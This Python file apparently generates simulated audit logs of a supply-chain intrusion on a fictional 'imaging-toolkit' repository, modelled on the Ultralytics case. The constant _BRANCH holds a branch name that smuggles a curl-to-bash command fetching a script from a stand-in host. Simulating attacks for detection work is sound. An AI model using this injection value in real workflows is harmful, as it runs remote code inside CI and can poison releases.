"""A branch whose name is a command runs in the toolkit's workflow; two releases carry more than their code says.

After Ultralytics (2024): a change from outside, a name that a workflow ran, builds with what was left in them, and a
token for the registry that was not changed with the others, which made two further releases days later.
"""

from random import Random

from scenarios.companies.pellworth import builder
from scenarios.kit import FOREVER, HOUR, MINUTE, SECOND, Machine, Person, Scene, digits, handed, intrusion, okta_id
from scenarios.systems.github import Github

_REPOSITORY, _FROM = "imaging-toolkit", "243.201.55.9"
_BRANCH = "$({curl,-sSfL,raw.example/f/main/file.sh}${IFS}|${IFS}bash)"


@intrusion("A branch's name runs in a workflow, and releases are changed")
def plan(scene: Scene) -> None:
    """Runs on one day, a release on the next and another after a fix; five days later two with the forgotten token."""
    rng, code = scene.rng("intruder"), scene.known("github", Github)
    _runs(scene, rng, code)
    old = next(one for one in scene.lasting("github", scene.at(2), scene.at(3)) if one.name == "toolkit-release")
    release = scene.intruder(rng, old)
    found = scene.at(3, 18)
    for day, hour in ((2, 20), (3, 12)):
        ms = scene.at(day, hour) + rng.randrange(40 * MINUTE)
        steps = [("fetch", _REPOSITORY, "take: build entered"), ("push", _REPOSITORY, "change: version"),
                 ("release", _REPOSITORY, "change: release made")]  # fmt: skip
        release.series(ms, steps, MINUTE, 3 * MINUTE, address=builder(f"{day}", ms))
        scene.foothold("release", f"github@main:release:{_REPOSITORY}/{day}", ms, found if day == 2 else found + HOUR)
    handed(scene, rng, "toolkit-release", found, scene.people[0], grace=2 * MINUTE)
    release.holds(scene.at(2, 20), old.ended)
    left = next(one for one in scene.of("github") if one.name == "toolkit-publish")
    publish = scene.intruder(rng, left, address=_FROM, agent="twine/5.1.1")
    since = scene.at(8, 1) + rng.randrange(2 * HOUR)
    ms = publish.series(since, [("contents", _REPOSITORY), ("protect!403", _REPOSITORY),
                                ("release", _REPOSITORY, "change: release made")], MINUTE, 3 * MINUTE)  # fmt: skip
    publish.act(ms + 35 * MINUTE, "release", _REPOSITORY, "change: release made")
    scene.foothold("release", f"github@main:release:{_REPOSITORY}/late", ms)
    publish.holds(since)


def _runs(scene: Scene, rng: Random, code: Github) -> None:
    """An account from outside proposes a change twice; the workflow runs, and its token makes a branch."""
    outside = Person("openimage-tester", okta_id(rng, "00u"), _FROM, _FROM, "")
    own = Machine("github", "github-actions[bot]", digits(rng, 9), "", "actions/runner 2.333.1", FOREVER, 1, [], ())
    workflow = scene.intruder(rng, own)
    for hour in (19, 21):
        ms = scene.at(1, hour) + rng.randrange(50 * MINUTE)
        for action, more in (
            ("pull_request.create", {"repo": f"pellworth/{_REPOSITORY}"}),
            ("workflows.created_workflow_run", {
                "repo": f"pellworth/{_REPOSITORY}", "head_branch": _BRANCH, "event": "pull_request_target",
                "name": "Format code", "workflow_run_id": digits(rng, 11),
            }),
        ):  # fmt: skip
            scene.hostile("look: workflow run", code.person_does(rng, outside, ms, action, outside.login, **more))
            ms += 9 * SECOND
        steps = [("contents", _REPOSITORY, "take: settings read"), ("secrets!403", _REPOSITORY, "take: secrets tried"),
                 ("push", _REPOSITORY, "change: branch made")]  # fmt: skip
        workflow.series(ms + MINUTE, steps, 4 * SECOND, 20 * SECOND, address=builder("format", ms))
    scene.foothold("token", f"github@main:token_id:{own.key}", scene.first, scene.at(2))
